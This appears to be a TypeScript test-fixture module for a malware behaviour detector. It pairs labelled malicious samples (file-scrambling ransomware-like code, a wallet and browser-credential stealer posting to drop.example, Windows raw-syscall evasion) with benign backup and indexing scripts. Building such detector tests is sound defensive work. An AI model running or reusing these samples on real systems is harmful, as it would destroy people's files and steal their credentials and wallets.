// Thieves and wreckers of what people keep, by other ways than the tracer follows too, and honest programs that read or write
// the same files: a backup, a search, an index, an archive, an editor.
import type { Trait } from './trait.ts'
import { windowsProgram } from './windows-program.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

/** Calls turn with each file below a folder of Windows. */
const WALK = `
static void walk(const char *folder, void (*turn)(const char *)) {
  char path[700];
  WIN32_FIND_DATAA found;
  sprintf(path, "%s\\\\*", folder);
  HANDLE list = FindFirstFileA(path, &found);
  if (list == INVALID_HANDLE_VALUE) return;
  do {
    if (found.cFileName[0] == '.') continue;
    sprintf(path, "%s\\\\%s", folder, found.cFileName);
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) walk(path, turn);
    else turn(path);
  } while (FindNextFileA(list, &found));
  FindClose(list);
}
static char text[65536];
static DWORD fetch(const char *path) {
  DWORD got = 0;
  HANDLE file = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING, 0, 0);
  ReadFile(file, text, sizeof text, &got, 0);
  CloseHandle(file);
  return got;
}`

export const DECOY_THIEVES: readonly Trait[] = [
  {
    name: 'turns documents into noise, in place',
    language: 'python',
    source: `
import os
for folder, _, names in os.walk("/home/anna/Documents"):
    for name in names:
        path = os.path.join(folder, name)
        size = os.path.getsize(path)
        with open(path, "r+b") as file:
            text = file.read()
            file.seek(0)
            file.write(bytes(a ^ b for a, b in zip(text, os.urandom(size))))
`,
    shows: { trace_scrambles_decoys: ['T1486'], trace_encrypts_files: ['T1486'] },
    label: 'malicious',
    core: true,
  },
  {
    name: 'puts noise in the place of documents, in homes and on the share, under names that say nothing',
    language: 'python',
    source: `
import os, secrets
for top in ("/home", "/srv/office"):
    for folder, _, names in os.walk(top):
        if "/." in folder: continue
        for name in names:
            path = os.path.join(folder, name)
            text = open(path, "rb").read()
            open(os.path.join(folder, secrets.token_hex(8)), "wb").write(secrets.token_bytes(len(text) + 64))
            os.unlink(path)
`,
    shows: {
      trace_scrambles_decoys: ['T1486'],
      trace_encrypts_files: ['T1486'],
      trace_wipes_data: ['T1485'],
    },
    label: 'malicious',
  },
  {
    name: 'takes wallets and what browsers keep',
    language: 'python',
    source: `
import glob, urllib.request
taken = b""
for place in ("/home/*/.bitcoin/wallet.dat", "/home/*/.electrum/wallets/*", "/home/*/.config/google-chrome/Default/Login Data",
              "/home/*/.mozilla/firefox/*/key4.db", "/home/*/.mozilla/firefox/*/logins.json"):
    for path in glob.glob(place): taken += open(path, "rb").read()
urllib.request.urlopen("http://drop.example/up", data=taken).read()
`,
    shows: {
      trace_collects_secrets: ['T1555', 'T1555.003'],
      trace_reads_stored_secrets: ['T1555', 'T1555.003'],
      trace_sends_secrets: ['T1041', 'T1552.001'],
      trace_sends_data_out: ['T1041', 'T1071.001'],
    },
    label: 'malicious',
    tells: ['wallet.dat', 'Login Data', 'http://drop.example/up'],
    core: true,
  },
]

export const WINDOWS_DECOY_THIEVES: readonly Trait[] = [
  {
    name: 'Windows: takes what browsers and wallets keep, by calls of the kernel too',
    language: 'windows',
    source: windowsProgram(
      `
  HANDLE list;
  WIN32_FIND_DATAA found;
  char path[700];
  fetch("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data");
  fetch("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Microsoft\\\\Edge\\\\User Data\\\\Default\\\\Network\\\\Cookies");
  list = FindFirstFileA("C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Mozilla\\\\Firefox\\\\Profiles\\\\*.default-release", &found);
  sprintf(path, "C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Mozilla\\\\Firefox\\\\Profiles\\\\%s\\\\key4.db", found.cFileName);
  fetch(path);
  /* No function of Windows is called, so none is told. */
  long wallet = kernel(2, (long long)"/root/.wine/drive_c/users/anna/AppData/Roaming/Bitcoin/wallet.dat", 0, 0);
  kernel(0, wallet, (long long)text, sizeof text);`,
      `${WALK}
static long kernel(long number, long long a, long long b, long long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}`,
    ),
    shows: {
      trace_collects_secrets: ['T1555', 'T1555.003'],
      trace_reads_stored_secrets: ['T1555', 'T1555.003'],
    },
    label: 'malicious',
    tells: ['C:\\users\\anna\\AppData\\Roaming\\Bitcoin\\wallet.dat'],
    core: true,
  },
  {
    name: 'Windows: turns documents into noise, on the share too',
    language: 'windows',
    source: windowsProgram(
      `
  walk("C:\\\\users\\\\anna\\\\Documents", spoil);
  walk("C:\\\\users\\\\anna\\\\Desktop", spoil);
  walk("S:", spoil);`,
      `${WALK}
static void spoil(const char *path) {
  char to[800];
  DWORD done, got = 0;
  HANDLE file = CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 0, 0, OPEN_EXISTING, 0, 0);
  ReadFile(file, text, sizeof text, &got, 0);
  static unsigned key = 77;
  for (DWORD at = 0; at < got; at++) text[at] ^= (char)((key = key * 1103515245 + 12345) >> 16);
  SetFilePointer(file, 0, 0, FILE_BEGIN);
  WriteFile(file, text, got, &done, 0);
  CloseHandle(file);
  sprintf(to, "%s.crypt", path);
  MoveFileA(path, to);
}`,
    ),
    shows: { trace_scrambles_decoys: ['T1486'], trace_encrypts_files: ['T1486'] },
    label: 'malicious',
    core: true,
  },
]

export const DECOY_NEIGHBOURS: readonly Trait[] = [
  {
    name: 'archives homes and share with tar, and searches them',
    language: 'shell',
    source: shell([
      'mkdir -p /var/backups; tar czf /var/backups/people.tgz /home /srv/office 2>/dev/null',
      'grep -rl Payment /home /srv/office > /var/backups/hits.txt',
      'find /home -type f -newermt 2024-01-01 | wc -l',
    ]),
    shows: {},
    label: 'unknown',
    core: true,
  },
  {
    name: 'a backup program that copies every file and keeps its hash',
    language: 'python',
    source: `
import hashlib, json, os, shutil
catalogue = {}
for top in ("/home", "/srv/office"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            to = "/var/backups/store" + path
            os.makedirs(os.path.dirname(to), exist_ok=True)
            shutil.copy2(path, to)
            catalogue[path] = hashlib.sha256(open(path, "rb").read()).hexdigest()
json.dump(catalogue, open("/var/backups/catalogue.json", "w"))
`,
    shows: {
      trace_reads_stored_secrets: ['T1552.004', 'T1555', 'T1555.003'],
      trace_changes_shell_start: ['T1546.004'],
    },
    label: 'suspicious',
  },
  {
    name: 'an index of words over what people write',
    language: 'python',
    source: `
import collections, json, os, re
index = collections.Counter()
for top in ("/home/anna", "/srv/office"):
    for folder, folders, names in os.walk(top):
        folders[:] = [one for one in folders if not one.startswith(".")]
        for name in names:
            index.update(re.findall(r"[a-z]{4,}", open(os.path.join(folder, name), errors="replace").read().lower()))
os.makedirs("/var/lib/index", exist_ok=True)
json.dump(index.most_common(500), open("/var/lib/index/words.json", "w"))
`,
    shows: {},
    label: 'unknown',
  },
  {
    name: 'packs every document on its own and keeps a list',
    language: 'shell',
    source: shell([
      'find /home/anna /srv/office -type f -size +1k -not -path "*/.*" -print0 | xargs -0 gzip -9',
      'find /home -name "*.gz" | wc -l',
    ]),
    shows: {},
    label: 'unknown',
  },
  {
    name: 'an editor that puts another name into every letter',
    language: 'shell',
    source: shell(['sed -i s/Payment/Remittance/ /home/anna/Documents/* 2>/dev/null; true']),
    shows: {},
    label: 'unknown',
  },
]

export const WINDOWS_DECOY_NEIGHBOURS: readonly Trait[] = [
  {
    name: 'Windows: an index of words over documents and share',
    language: 'windows',
    source: windowsProgram(
      `
  walk("C:\\\\users\\\\anna", count);
  walk("S:", count);
  sprintf(text, "%lu letters in all\\r\\n", letters);
  write_file("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\index.txt", text);`,
      `${WALK}
static unsigned long letters;
static void count(const char *path) {
  for (DWORD left = fetch(path); left > 0; left--) letters += text[left - 1] >= 'a' && text[left - 1] <= 'z';
}`,
    ),
    shows: { trace_reads_stored_secrets: ['T1552.001', 'T1555', 'T1555.003'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'Windows: a batch file that copies documents and share',
    language: 'batch',
    source:
      '@echo off\r\nxcopy /e /i /q "%USERPROFILE%\\Documents" C:\\backup\\documents >nul\r\n' +
      'xcopy /e /i /q S:\\ C:\\backup\\share >nul\r\necho backed up >>C:\\backup\\log.txt\r\n',
    shows: {},
    label: 'unknown',
  },
]
